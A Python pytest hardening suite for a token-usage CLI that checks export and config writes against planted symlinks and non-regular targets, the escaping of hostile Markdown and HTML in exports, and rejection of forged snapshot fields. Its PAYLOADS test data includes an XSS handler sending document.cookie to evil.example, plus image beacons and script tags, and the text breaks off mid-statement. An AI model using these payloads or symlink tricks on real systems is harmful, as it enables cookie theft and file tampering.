"""Hostile exports, snapshots and saved files.

* Writing (`export -o`, config.toml saves such as the dashboard's theme, `budget set`): a
  symlink planted at any guessable temporary name is never followed; a FIFO, device, socket
  or directory given as the target is refused (exit 2, one line) and left as it was; a
  symlinked config.toml keeps its link; a symlink someone else owns is not followed; write
  errors name the file the user gave, never a temporary file.
* Markdown and HTML exports: Markdown and HTML in model names, project names, budget scopes,
  team names and ``--name`` are shown as text, never interpreted (no image beacons, raw
  HTML, links, emphasis, or broken tables).
* ``verify``: a JSON key given twice (the fake value first) and fields outside the ones a
  snapshot has are rejected; trailing spaces (a mail client's) are ignored in every format.
"""

from __future__ import annotations

import json
import os
import re
import socket
import stat
import subprocess
import tomllib
from datetime import datetime, timedelta, timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest

from tests.hardening.privs import IS_ROOT, give, run_as_nobody, shared_dir
from tokentui import paths
from tokentui.cli import main
from tokentui.config import load_settings, update_config
from tokentui.core.records import ESTIMATED, UsageRecord, to_pico
from tokentui.export import render
from tokentui.export.model import digest, make, project_name
from tokentui.export.verify import verify_file, verify_text
from tokentui.services.snapshot import ExportOptions, build
from tokentui.services.sync import open_store
from tokentui.store import ledger
from tokentui.store.db import transaction

#: Markdown and HTML an attacker can put in a model name, a project name or a label
PAYLOADS = {
    "image-beacon": "![x](http://evil.example/beacon.png)",
    "img-onerror": "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "script": "<script>alert(1)</script>",
    "js-link": "[click me](javascript:alert(1))",
    "reference-link": "[x]: http://evil.example/ref \"t\"",
    "autolink": "<http://evil.example/auto>",
    "bare-url": "see http://evil.example/bare and www.evil.example",
    "table-break": "a | b | c",
    "backticks": "``` `code` ``",
    "heading": "# Approved by finance #",
    "entity": "&lt;img src=x&gt; &amp; &#60;b&#62;",
    "emphasis": "**bold** _it_ ~~gone~~ *x*",
    "html-comment": "<!-- hidden --> -->",
    "backslash": "C:\\temp\\* \\[x\\]",
    "math": "$\\color{red}{PAID}$",
    "newlines": "x\n\n<img src=x>\n- item\n> quote\n1. one",
    "list-start": "- + = 1) 2. > #",
}


def _ms(dt: datetime) -> int:
    return int(dt.timestamp() * 1000)


def _seed(models: list[str], projects: list[str]) -> None:
    now = datetime.now(timezone.utc)
    recs = []
    for i, (model, project) in enumerate(zip(models, projects)):
        when = (now - timedelta(days=1 + i % 5)).replace(hour=10, minute=i % 60)
        recs.append(UsageRecord("claude-code", f"h{i}", _ms(when), model, 1000 + i, 200 + i, 0, 0, 300,
                                project=project, cost_pico=to_pico("0.0%02d" % (i + 1)), cost_label=ESTIMATED))
    conn = open_store()
    with transaction(conn):
        ledger.upsert(conn, recs, "laptop")
    conn.close()


def _config(text: str = "") -> Path:
    cfg = paths.config_file()
    cfg.parent.mkdir(parents=True, exist_ok=True)
    cfg.write_text('timezone = "UTC"\n' + text, encoding="utf-8")
    return cfg


def _team(tmp_path: Path, name: str) -> Path:
    team = tmp_path / "team.toml"
    metrics = "".join(f"[metrics.{m}]\nn = 5\np10 = 1\np25 = 2\np50 = 3\np75 = 4\np90 = 5\n"
                      for m in ("tokens_per_week", "cache_hit_ratio"))
    team.write_text(f'format = "tokentop-team/1"\nname = {json.dumps(name)}\nwindow_days = 28\nmembers = 5\n'
                    + metrics, encoding="utf-8")
    return team


def _one_error(err: str, *words: str) -> str:
    lines = [ln for ln in err.strip().splitlines() if ln]
    assert "Traceback" not in err, err
    assert lines and lines[0].startswith("tokentop: error:"), err
    assert len(lines) <= 2 and all(ln.startswith("  hint:") for ln in lines[1:]), err
    for w in words:
        assert w in lines[0], err
    return lines[0]


def _kind(path: Path) -> str:
    try:
        mode = os.lstat(path).st_mode
    except FileNotFoundError:
        return "missing"
    for name, test in (("link", stat.S_ISLNK), ("fifo", stat.S_ISFIFO), ("chardev", stat.S_ISCHR),
                       ("socket", stat.S_ISSOCK), ("dir", stat.S_ISDIR), ("file", stat.S_ISREG)):
        if test(mode):
            return name
    return "other"


def _leftovers(folder: Path, keep: set[str]) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name not in keep)


# =============================================================================================
# writing: planted symlinks, non-regular targets, symlinked config, errors naming the file
# =============================================================================================

def _guessable(name: str) -> list[str]:
    """Temporary names a writer might use next to ``name`` (pid-based ones for this process)."""
    pid = os.getpid()
    return [f".{name}.tmp{pid}", f".{name}.tmp", f"{name}.tmp", f"{name}.tmp{pid}", f"{name}~", f".{name}.swp",
            f"{name}.new", f".#{name}", f".{name}.{pid}.tmp", f"{name}.part"]


def _plant(folder: Path, name: str, victim: Path) -> list[Path]:
    links = []
    for guess in _guessable(name):
        link = folder / guess
        link.symlink_to(victim)
        links.append(link)
    return links


@pytest.mark.parametrize("fmt", ["md", "html", "json", "toml", "csv"])
def test_export_never_follows_a_symlink_planted_at_a_temp_name(tmp_path, capsys, fmt):
    _config()
    _seed(["claude-sonnet-4-5"], ["p"])
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out_dir = tmp_path / "shared"
    out_dir.mkdir()
    target = out_dir / f"snap.{fmt}"
    links = _plant(out_dir, target.name, victim)
    assert main(["export", "--no-sync", "-o", str(target)]) == 0, capsys.readouterr().err
    assert victim.read_text() == "precious\n"
    assert all(_kind(l) == "link" and os.readlink(l) == str(victim) for l in links)
    assert _kind(target) == "file" and verify_file(target).ok
    keep = {target.name, *(l.name for l in links)} | ({f"{target.name}.verify.json"} if fmt == "csv" else set())
    assert _leftovers(out_dir, keep) == []  # no temp file left behind (a CSV's data file is its own)


def test_config_save_never_follows_a_symlink_planted_at_a_temp_name(tmp_path):
    cfg = _config()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    links = _plant(cfg.parent, cfg.name, victim)
    update_config(cfg, ["theme"], "tokentop-light")  # what the dashboard's `t` calls
    assert main(["budget", "set", "work", "--usd", "100", "--period", "month"]) == 0
    assert victim.read_text() == "precious\n"
    assert all(_kind(l) == "link" and os.readlink(l) == str(victim) for l in links)
    assert _kind(cfg) == "file" and load_settings(cfg).theme == "tokentop-light"
    assert "work" in load_settings(cfg).raw["budgets"]


def _make_target(kind: str, path: Path):
    if kind == "fifo":
        os.mkfifo(path)
    elif kind == "chardev":
        try:
            os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a private copy of /dev/null
        except PermissionError:
            pytest.skip("mknod is not permitted here")
    elif kind == "socket":
        s = socket.socket(socket.AF_UNIX)
        s.bind(str(path))
        return s
    elif kind == "dir":
        path.mkdir()
        (path / "inside").write_text("x")
    return None


@pytest.mark.parametrize("kind", ["fifo", "chardev", "socket", "dir"])
def test_export_refuses_a_target_that_is_not_a_regular_file(tmp_path, capsys, kind):
    _config()
    _seed(["m"], ["p"])
    target = tmp_path / f"out-{kind}.md"
    sock = _make_target(kind, target)
    try:
        code = main(["export", "--no-sync", "-o", str(target)])
        err = capsys.readouterr().err
        assert code == 2, err
        _one_error(err, str(target), "not a regular file")
        assert _kind(target) == kind  # left exactly as it was
        assert _leftovers(tmp_path, {target.name, "config", "data", "home"}) == []
    finally:
        if sock is not None:
            sock.close()


def test_export_refuses_a_symlink_loop(tmp_path, capsys):
    _config()
    a, b = tmp_path / "a.md", tmp_path / "b.md"
    a.symlink_to(b)
    b.symlink_to(a)
    code = main(["export", "--no-sync", "-o", str(a)])
    assert code == 2
    _one_error(capsys.readouterr().err, str(a), "symlinks")
    assert os.readlink(a) == str(b) and os.readlink(b) == str(a)


@pytest.mark.parametrize("argv", [["export", "--no-sync", "-o", "{out}"], ["export", "--no-sync", "-f", "csv", "-o", "{out}"],
                                  ["team", "build", "-o", "{out}", "{snap}"], ["team", "pull", "openai", "-o", "{out}"]])
def test_a_file_named_in_a_missing_folder_is_refused_not_created(tmp_path, capsys, argv):
    """A typo in ``-o``'s folder is one plain error (exit 2) before any work (no request, no
    snapshot read); no folder is created for it."""
    _config()
    _seed(["m"], ["p"])
    out = tmp_path / "reprots" / "2026" / "out.md"
    snap = tmp_path / "me.json"  # never read: the output is checked first
    code = main([a.format(out=out, snap=snap) for a in argv])
    err = capsys.readouterr().err
    assert code == 2, err
    _one_error(err, str(out), f"{out.parent} does not exist")
    assert not (tmp_path / "reprots").exists()


def test_config_save_refuses_a_config_that_is_a_device(tmp_path, capsys, monkeypatch):
    """TOKENTOP_CONFIG=/dev/null (here a private copy of it) reads as no config; saving the
    theme or a budget must not replace the device with a regular file."""
    from tokentui.errors import TokentopError

    cfg = tmp_path / "odd" / "config.toml"
    cfg.parent.mkdir()
    monkeypatch.setenv("TOKENTOP_CONFIG", str(cfg))
    _make_target("chardev", cfg)
    with pytest.raises(TokentopError) as exc:
        update_config(cfg, ["theme"], "tokentop-light")  # the dashboard shows exc.message
    assert str(cfg) in exc.value.message and ".tmp" not in str(exc.value)
    code = main(["budget", "set", "work", "--usd", "100", "--period", "month"])
    assert code == 2
    _one_error(capsys.readouterr().err, str(cfg), "not a regular file")
    assert _kind(cfg) == "chardev"
    assert _leftovers(cfg.parent, {cfg.name}) == []


def _link_config(tmp_path: Path, monkeypatch, how: str) -> tuple[Path, Path, str]:
    real = tmp_path / "dotfiles" / "tokentop" / "config.toml"
    real.parent.mkdir(parents=True)
    if how != "dangling":
        real.write_text('timezone = "UTC"\ndevice = "kept"\n', encoding="utf-8")
    link = tmp_path / "cfg" / "config.toml"
    link.parent.mkdir()
    if how == "relative":
        dest = os.path.relpath(real, link.parent)
    elif how == "chain":
        middle = tmp_path / "cfg" / "middle.toml"
        middle.symlink_to(real)
        dest = str(middle)
    else:
        dest = str(real)
    link.symlink_to(dest)
    monkeypatch.setenv("TOKENTOP_CONFIG", str(link))
    return link, real, dest


@pytest.mark.parametrize("how", ["absolute", "relative", "chain", "dangling"])
def test_a_symlinked_config_keeps_its_link_when_saved(tmp_path, monkeypatch, how):
    link, real, dest = _link_config(tmp_path, monkeypatch, how)
    update_config(link, ["theme"], "tokentop-light")  # the dashboard's theme save
    assert main(["budget", "set", "work", "--usd", "100", "--period", "month"]) == 0
    assert _kind(link) == "link" and os.readlink(link) == dest
    if how == "chain":
        assert _kind(tmp_path / "cfg" / "middle.toml") == "link"
    assert _kind(real) == "file" and stat.S_IMODE(real.stat().st_mode) == 0o600
    doc = tomllib.loads(real.read_text(encoding="utf-8"))
    assert doc["theme"] == "tokentop-light" and "work" in doc["budgets"]
    assert doc.get("device") == (None if how == "dangling" else "kept")
    assert _leftovers(link.parent, {"config.toml", "middle.toml"}) == []
    assert _leftovers(real.parent, {"config.toml"}) == []


async def test_the_dashboard_theme_save_keeps_a_symlinked_config_linked(tmp_path):
    """`t` in the dashboard, with config.toml a symlink into a dotfiles folder."""

    from tests.tui.conftest import FROZEN_NOW, settings, write_template
    from tokentui.tui.app import TokentopApp

    real = tmp_path / "dotfiles" / "config.toml"
    real.parent.mkdir()
    real.write_text('timezone = "UTC"\ndevice = "kept"\n', encoding="utf-8")
    link = tmp_path / "linked" / "config.toml"
    link.parent.mkdir()
    link.symlink_to(real)
    (tmp_path / "demo").mkdir()
    db = write_template(tmp_path / "demo" / "history.db")
    app = TokentopApp(settings(tmp_path).replace(path=link), db_path=db, demo=True, clock=lambda: FROZEN_NOW)
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        deadline = 200
        while app.snapshot is None and deadline:
            await pilot.pause(0.05)
            deadline -= 1
        app.settings = app.settings.replace(path=link)  # demo mode would save next to its store
        await pilot.press("t")
        for _ in range(200):
            if "theme" in real.read_text(encoding="utf-8"):
                break
            await pilot.pause(0.05)
        theme = app.theme
    assert _kind(link) == "link" and os.readlink(link) == str(real)
    doc = tomllib.loads(real.read_text(encoding="utf-8"))
    assert doc["theme"] == theme and doc["device"] == "kept"
    assert not any("not saved" in str(n.message) for n in app._notifications)


def test_export_through_your_own_symlink_writes_its_target(tmp_path, capsys):
    _config()
    _seed(["m"], ["p"])
    real = tmp_path / "reports" / "2026.md"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "latest.md"
    link.symlink_to(real)
    assert main(["export", "--no-sync", "-o", str(link)]) == 0, capsys.readouterr().err
    assert _kind(link) == "link" and verify_file(real).ok


@pytest.mark.skipif(not IS_ROOT, reason="planting a link owned by another user needs root (lchown)")
@pytest.mark.parametrize("where", ["-o", "default-name", "config"])
def test_a_symlink_owned_by_someone_else_is_not_followed(tmp_path, capsys, monkeypatch, where):
    _config()
    _seed(["m"], ["p"])
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    shared = tmp_path / "shared"
    shared.mkdir()
    os.chmod(shared, 0o1777)  # like /tmp
    if where == "default-name":
        monkeypatch.chdir(shared)
        snap = build(open_store(), load_settings(), ExportOptions())
        from tokentui.services.snapshot import default_name

        planted = shared / default_name(snap, "md")
        argv = ["export", "--no-sync"]
    elif where == "-o":
        planted = shared / "snap.md"
        argv = ["export", "--no-sync", "-o", str(planted)]
    else:
        planted = shared / "config.toml"
        monkeypatch.setenv("TOKENTOP_CONFIG", str(planted))
        argv = ["budget", "set", "work", "--usd", "100", "--period", "month"]
    planted.symlink_to(victim)
    os.lchown(planted, 65534, 65534)
    if where == "config":  # the reader follows it (that is the user's choice); saving must not
        victim.write_text('timezone = "UTC"\n')
    before = victim.read_text()
    code = main(argv)
    err = capsys.readouterr().err
    assert code == 2, err
    _one_error(err, str(planted), "symlink")
    assert victim.read_text() == before and _kind(planted) == "link"


def _nobody_env(base: Path) -> dict[str, str]:
    return {"HOME": str(base), "TOKENTOP_DATA_DIR": str(base / "data"), "TOKENTOP_CONFIG": str(base / "cfg" / "c.toml"),
            "PATH": os.defpath, "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring"}


def _warm_export_imports() -> None:
    """The forked unprivileged child cannot import from /root: import what export needs."""
    import tomli_w  # noqa: F401

    import tokentui.cli.budget  # noqa: F401
    import tokentui.cli.export  # noqa: F401
    import tokentui.export.html  # noqa: F401
    import tokentui.export.machine  # noqa: F401
    import tokentui.export.markdown  # noqa: F401
    import tokentui.services.budgets  # noqa: F401
    import tokentui.services.leverage  # noqa: F401
    import tokentui.services.snapshot  # noqa: F401


def test_export_write_errors_name_the_file_you_gave(tmp_path):
    _warm_export_imports()
    with shared_dir() as base:
        (base / "cfg").mkdir()
        (base / "data").mkdir()
        (base / "locked").mkdir()
        from tokentui.store.db import connect

        connect(base / "data" / "history.db").close()  # a history to export (none would add a warning)
        give(base / "cfg")
        give(base / "data")
        os.chmod(base / "locked", 0o755 if IS_ROOT else 0o555)  # the (unprivileged) user may not write in it
        target = base / "locked" / "snap.md"
        code, out, err = run_as_nobody(["export", "--no-sync", "-o", str(target)], _nobody_env(base))
        assert code == 1, (code, out, err)
        _one_error(err, f"cannot write {target}")
        assert ".tmp" not in err and f"{base / 'locked'}/." not in err
        assert _leftovers(base / "locked", set()) == []


def test_config_write_errors_name_the_config_file(tmp_path):
    _warm_export_imports()
    with shared_dir() as base:
        (base / "cfg").mkdir()
        (base / "data").mkdir()
        cfg = base / "cfg" / "c.toml"
        cfg.write_text('timezone = "UTC"\n')
        give(base / "data")
        os.chmod(cfg, 0o644)
        os.chmod(base / "cfg", 0o755)  # root's directory: readable, not writable by the user
        if not IS_ROOT:
            os.chmod(base / "cfg", 0o555)
        code, out, err = run_as_nobody(["budget", "set", "work", "--usd", "100", "--period", "month"],
                                       _nobody_env(base))
        assert code == 1, (code, out, err)
        _one_error(err, f"cannot write {cfg}")
        assert ".tmp" not in err
        assert cfg.read_text() == 'timezone = "UTC"\n'


@pytest.mark.skipif(not IS_ROOT, reason="mounting a tiny tmpfs needs root")
def test_export_to_a_full_disk_names_the_file_and_leaves_nothing(tmp_path, capsys):
    _config()
    _seed([f"model-{i}" for i in range(40)], [f"p{i}" for i in range(40)])
    mnt = tmp_path / "small"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8k", "tmpfs", str(mnt)], capture_output=True).returncode:
        pytest.skip("mount -t tmpfs is not permitted here")
    try:
        target = mnt / "snap.html"
        code = main(["export", "--no-sync", "--include-projects", "-o", str(target)])
        err = capsys.readouterr().err
        assert code == 1, err
        _one_error(err, f"cannot write {target}", "full")
        assert ".tmp" not in err
        assert list(mnt.iterdir()) == []  # no half-written temp file fills the disk
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


# =============================================================================================
# Markdown and HTML: data is text, never markup
# =============================================================================================

def _md_parser():
    pytest.importorskip("linkify_it")
    from markdown_it import MarkdownIt

    # GitHub-like: raw HTML on, tables, strikethrough, bare URLs turned into links
    return MarkdownIt("gfm-like", {"linkify": True, "html": True})


def _walk(tokens):
    for t in tokens:
        yield t
        if t.children:
            yield from _walk(t.children)


def _visible(tokens) -> str:
    out = []
    for t in _walk(tokens):
        if t.type in ("text", "code_inline"):
            out.append(t.content)
        elif t.type in ("softbreak", "hardbreak"):
            out.append(" ")
        elif t.type.endswith("_close") and t.type not in ("strong_close", "em_close"):
            out.append("\n")
    return "".join(out)


def _own_block(t) -> bool:
    """tokentop's own collapsed block around the data: exactly its two fixed lines."""
    from tokentui.export.markdown import DATA_CLOSE, DATA_OPEN

    return t.type == "html_block" and t.content.strip() in (DATA_OPEN, DATA_CLOSE)


def _check_markdown(text: str, payloads: list[str], label: str) -> None:
    tokens = _md_parser().parse(text)
    bad = [(t.type, t.content or t.attrs) for t in _walk(tokens)
           if t.type in ("html_inline", "html_block", "image", "link_open", "s_open", "blockquote_open",
                         "fence", "code_block", "hr")
           and not (t.type == "fence" and t.info.startswith("json tokentop-snapshot")) and not _own_block(t)]
    assert bad == [], bad
    assert sum(1 for t in tokens if t.type == "heading_open" and t.tag == "h1") == 1
    assert all(t.tag == "h2" for t in tokens if t.type == "heading_open" and t.tag != "h1")
    # every table row has as many cells as its header
    cells: list[int] = []
    for t in tokens:
        if t.type == "tr_open":
            cells.append(0)
        elif t.type in ("th_open", "td_open"):
            cells[-1] += 1
        elif t.type == "table_close":
            assert len(set(cells)) == 1, cells
            cells = []
    visible = _visible(tokens)
    for p in payloads:
        assert " ".join(p.split()) in visible, p
    title = next(tokens[i + 1] for i, t in enumerate(tokens) if t.type == "heading_open" and t.tag == "h1")
    assert _visible([title]) == f"Token usage: {' '.join(label.split())}"
    # the only code spans are tokentop's own (digest, commands in the notes)
    for t in _walk(tokens):
        if t.type == "code_inline":
            assert not any(" ".join(p.split()) in t.content for p in payloads), t.content


def _hostile_store(tmp_path: Path) -> tuple[list[str], list[str]]:
    names = list(PAYLOADS.values())
    models = [f"m-{n}" for n in names]
    projects = [f"/home/u/{n.replace('/', '∕')}" for n in names]
    team = _team(tmp_path, "Platform " + PAYLOADS["image-beacon"] + " " + PAYLOADS["script"])
    scope = json.dumps(models[:3])
    _config(f'[team]\nfile = "{team}"\n[budgets.work]\nusd = 100\nperiod = "month"\nmodels = {scope}\n')
    _seed(models, projects)
    return models, [project_name(p) for p in projects]


@pytest.mark.parametrize("label_name", sorted(PAYLOADS))
def test_markdown_export_shows_hostile_text_as_text(tmp_path, capsys, label_name):
    models, projects = _hostile_store(tmp_path)
    label = PAYLOADS[label_name]
    target = tmp_path / "snap.md"
    assert main(["export", "--no-sync", "--include-projects", "--name", label, "-o", str(target)]) == 0, \
        capsys.readouterr().err
    text = target.read_text(encoding="utf-8")
    snap = json.loads(re.search(r"```json tokentop-snapshot sha256=\w+\n(.*?)\n```", text, re.S).group(1))
    assert "team" in snap and snap.get("budgets"), "the hostile team name and budget scope are exported"
    _check_markdown(text, models + projects, label)
    assert "evil.example" in text  # shown, as text
    assert verify_file(target).ok


def test_markdown_notes_and_sections_escape_every_data_string():
    """A snapshot whose every string field (as a hostile `verify` input could carry) is a
    payload still renders as text; the renderer is a pure function of the data."""
    p = PAYLOADS["image-beacon"] + " " + PAYLOADS["img-onerror"]
    data = _minimal()
    data["label"] = p
    data["notes"] = [p, "- " + p, "1. " + p, "# " + p, "`tokentop verify FILE` " + p]
    data["by_source"] = [{"source": p, "kind": p, "input_tokens": 1, "output_tokens": 1, "cache_write_tokens": 0,
                          "cache_read_tokens": 0, "total_tokens": 2, "cost_usd": "0", "billed_usd": "0",
                          "unpriced_tokens": 0, "records": 1}]
    data["provenance"]["sources"] = [{"source": p, "kind": p, "status": p, "records": 1, "records_in_period": 1,
                                      "duplicates_dropped": 0, "skipped_lines": 0}]
    data["provenance"]["pricing_data_version"] = p
    data["provenance"]["store_pricing_version"] = p + "x"
    data["budgets"] = [{"name": "b", "unit": "usd", "amount": "1.00", "period": p, "period_start": "2026-11-01",
                        "period_end": "2026-12-01", "scope": p, "spent": "0.50", "remaining": "0.50",
                        "used_share": "0.5", "elapsed_share": "0.5", "daily_rate": "0.01", "projected": "1.00",
                        "projected_p10": "0.9", "projected_p90": "1.1", "unpriced_tokens": 0, "status": "ok",
                        "headline": p, "method": p, "burnup": []}]
    data["leverage"] = {"window_days": 1, "tokens_per_week": 1, "model_mix": [{"model": p, "share": 1.0}]}
    data["team"] = {"name": p, "members": 5, "window_days": 28, "generated": p, "source": p, "metrics": []}
    snap = make(data)
    md = render(snap, "md")
    tokens = _md_parser().parse(md)
    bad = [t.type for t in _walk(tokens) if t.type in ("html_inline", "html_block", "image", "link_open")
           and not _own_block(t)]
    assert bad == [], bad
    assert all(t.type != "ordered_list_open" for t in tokens)
    assert [t.tag for t in tokens if t.type == "heading_open" and t.tag == "h1"] == ["h1"]
    assert all(t.level == 0 for t in tokens if t.type in ("bullet_list_open", "heading_open"))  # nothing nested
    notes = next(i for i, t in enumerate(tokens) if t.type == "heading_open" and tokens[i + 1].content == "Method notes")
    items = [t for t in tokens[notes:] if t.type == "list_item_open" and t.level == 1]
    assert len(items) >= len(data["notes"])
    visible = _visible(tokens)
    assert " ".join(p.split()) in visible and "- " + p in visible and "1. " + p in visible and "# " + p in visible
    assert verify_text(md).ok


def _minimal() -> dict:
    return {"schema_version": 1, "kind": "tokentop-snapshot", "layout_version": 2,
            "generated_at": "2026-11-20T12:00:00Z", "tokentop_version": "0", "window_days": 1,
            "period": {"spec": "2026-11-20..2026-11-20", "start": "2026-11-20", "end": "2026-11-20", "days": 1,
                       "timezone": "UTC", "to_date": False},
            "totals": {"input_tokens": 0, "output_tokens": 0, "cache_write_tokens": 0, "cache_read_tokens": 0,
                       "reasoning_tokens": 0, "total_tokens": 0, "cost_usd": "0", "billed_usd": "0",
                       "estimated_usd": "0", "unpriced_tokens": 0, "unpriced_share": "0", "requests": 0,
                       "records": 0, "active_days": 0},
            "by_source": [], "by_model": [],
            "daily": [{"date": "2026-11-20", "input_tokens": 0, "output_tokens": 0, "cache_write_tokens": 0,
                       "cache_read_tokens": 0, "total_tokens": 0, "cost_usd": "0", "unpriced_tokens": 0}],
            "provenance": {"sources": [], "pricing_data_version": "x", "tokentop_version": "0", "billed_usd": "0",
                           "estimated_usd": "0", "unpriced_tokens": 0, "unpriced_share": "0", "overlap": []},
            "notes": []}


class _Html(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list]] = []
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.tags.append((tag, attrs))

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_data(self, data):
        self.text.append(data)


HTML_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "header", "h1", "h2", "h3", "p", "section",
             "div", "span", "table", "thead", "tbody", "tr", "th", "td", "figure", "figcaption", "svg", "g", "rect",
             "line", "polyline", "polygon", "text", "ul", "li", "details", "summary", "footer", "code"}


def test_html_export_shows_hostile_text_as_text(tmp_path, capsys):
    models, projects = _hostile_store(tmp_path)
    label = " ".join(PAYLOADS.values())
    target = tmp_path / "snap.html"
    assert main(["export", "--no-sync", "--include-projects", "--name", label, "-o", str(target)]) == 0, \
        capsys.readouterr().err
    text = target.read_text(encoding="utf-8")
    h = _Html()
    h.feed(text)
    h.close()
    assert {t for t, _ in h.tags} <= HTML_TAGS, {t for t, _ in h.tags} - HTML_TAGS
    for tag, attrs in h.tags:
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("href", "src", "srcset", "xlink:href"), (tag, name)
            assert "evil" not in (value or "") or name in ("aria-label",), (tag, name, value)
    assert len(h.comments) == 1 and h.comments[0].startswith(" tokentop-snapshot sha256=")
    visible = " ".join(" ".join(h.text).split())
    for p in models + projects + [label]:
        assert " ".join(p.split()) in visible, p
    assert verify_file(target).ok


# =============================================================================================
# verify: duplicate keys, extra fields, trailing spaces
# =============================================================================================

@pytest.fixture
def snap(tmp_path):
    _config()
    _seed(["claude-sonnet-4-5", "gpt-5"], ["api", "web"])
    conn = open_store()
    try:
        yield build(conn, load_settings(), ExportOptions(label="Alice"))
    finally:
        conn.close()


def _verify_cli(tmp_path: Path, name: str, text: str, capsys) -> tuple[int, str]:
    f = tmp_path / name
    f.write_text(text, encoding="utf-8")
    code = main(["verify", str(f)])
    cap = capsys.readouterr()
    return code, cap.out + cap.err


#: (where, the key given twice): the fake value comes first, the one the digest covers last
DUPLICATES = [("data", "label"), ("data.totals", "cost_usd"), ("data.period", "end"), ("envelope", "digest"),
              ("envelope", "data")]


def _with_duplicate(snap, where: str, key: str) -> str:
    """The JSON envelope with ``key`` of ``where`` given twice, a fake value first."""
    fake = {"label": "Bob", "cost_usd": "0.01", "end": "2099-12-31", "digest": "0" * 64}.get(key, {"x": 1})
    env = snap.envelope()
    body = json.dumps(env, sort_keys=True)
    if where == "envelope":
        return "{" + json.dumps(key) + ": " + json.dumps(fake) + ", " + body[1:]
    obj = env["data"] if where == "data" else env["data"][where.split(".")[1]]
    inner = json.dumps(obj, sort_keys=True)
    assert body.count(inner) == 1
    return body.replace(inner, "{" + json.dumps(key) + ": " + json.dumps(fake) + ", " + inner[1:])


@pytest.mark.parametrize("where,key", DUPLICATES)
def test_verify_rejects_a_key_given_twice_in_json(snap, tmp_path, capsys, where, key):
    text = _with_duplicate(snap, where, key)
    assert json.loads(text)["data"] == snap.data or where == "envelope"  # last value wins in most readers
    v = verify_text(text)
    assert not v.ok and "twice" in v.message and key in v.message, v.message
    code, out = _verify_cli(tmp_path, "dup.json", text, capsys)
    assert code == 1 and "ALTERED" in out and "twice" in out, out


def _embedded(fmt: str, data: dict) -> str:
    """The line of JSON a md or html document embeds (a CSV's data is the JSON file beside it)."""
    from tokentui.export.text import embed_json

    return embed_json(data)


def _verify_document(snap, fmt: str, edit=lambda text: text) -> "object":
    """Verify ``snap`` rendered as ``fmt`` after ``edit`` changed where its data lives: the
    embedded data of md/html, the data file beside a CSV (the CSV rows stay as written)."""
    if fmt == "csv":
        return verify_text(render(snap, "csv"), edit(render(snap, "json")))
    return verify_text(edit(render(snap, fmt)))


@pytest.mark.parametrize("fmt", ["md", "html", "csv"])
def test_verify_rejects_a_key_given_twice_in_embedded_data(snap, fmt):
    def forge(text):
        line = text if fmt == "csv" else _embedded(fmt, snap.data)  # a CSV's data file is all data
        old, new = (('"label": "Alice"', '"label": "Bob", "label": "Alice"') if fmt == "csv"
                    else ('"label":"Alice"', '"label":"Bob","label":"Alice"'))
        assert text.count(line) == 1 and line.count(old) == 1
        return text.replace(line, line.replace(old, new))

    v = _verify_document(snap, fmt, forge)
    assert not v.ok and "twice" in v.message and "label" in v.message, v.message


def test_team_build_rejects_a_key_given_twice(snap, tmp_path, capsys):
    bm = pytest.importorskip("tokentui.core.benchmarks")
    if "leverage" not in snap.data:
        pytest.skip("leverage section not available")
    text = json.dumps(snap.envelope(), sort_keys=True)
    lev = json.dumps(snap.data["leverage"], sort_keys=True)
    forged = text.replace(lev, '{"tokens_per_week": 999999999, ' + lev[1:])
    with pytest.raises(bm.BenchmarkError, match="twice"):
        bm.parse_snapshot(forged, "me.json")


EXTRA = {"approved": True, "note": "approved by finance", "totals": {"cost_usd": "0.01"}, "sha256": "0" * 64}


@pytest.mark.parametrize("field", sorted(EXTRA))
@pytest.mark.parametrize("fmt", ["json", "toml"])
def test_verify_rejects_extra_top_level_fields(snap, tmp_path, capsys, field, fmt):
    import tomli_w

    env = snap.envelope()
    env[field] = EXTRA[field]
    text = json.dumps(env, indent=2) if fmt == "json" else tomli_w.dumps(env)
    v = verify_text(text)
    assert not v.ok and field in v.message, v.message
    code, out = _verify_cli(tmp_path, f"extra.{fmt}", text, capsys)
    assert code == 1 and "ALTERED" in out, out


@pytest.mark.parametrize("fmt", ["json", "md", "html", "csv"])
def test_verify_rejects_extra_fields_in_the_data(snap, fmt):
    """Even with the digest recomputed over them: the data holds only a snapshot's fields."""
    data = dict(snap.data)
    data["approved_by"] = "finance"
    from tokentui.export.model import Snapshot

    forged = Snapshot(data, digest(data))
    v = verify_text(render(forged, fmt), render(forged, "json") if fmt == "csv" else None)
    assert not v.ok and "approved_by" in v.message, v.message


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json", "toml"])
@pytest.mark.parametrize("pad", ["  ", " \t", "\t", "   \r"])
def test_trailing_spaces_are_ignored_in_every_format(snap, tmp_path, capsys, fmt, pad):
    text = render(snap, fmt)
    padded = "\n".join(line + pad for line in text.split("\n"))
    # a CSV is checked with its data file (padded too): both are read without trailing spaces
    side = "\n".join(line + pad for line in render(snap, "json").split("\n")) if fmt == "csv" else None
    v = verify_text(padded, side)
    assert v.ok and v.format == fmt and v.digest == snap.digest, v.message
    if side is not None:
        (tmp_path / f"padded.{fmt}.verify.json").write_text(side, encoding="utf-8")
    code, out = _verify_cli(tmp_path, f"padded.{fmt}", padded, capsys)
    assert code == 0 and "intact" in out, out
    # and they never hide a change: one digit of the data changed is still reported as such
    total = str(snap.data["totals"]["total_tokens"])
    needle = {"json": f'"total_tokens": {total}', "toml": f"total_tokens = {total}",
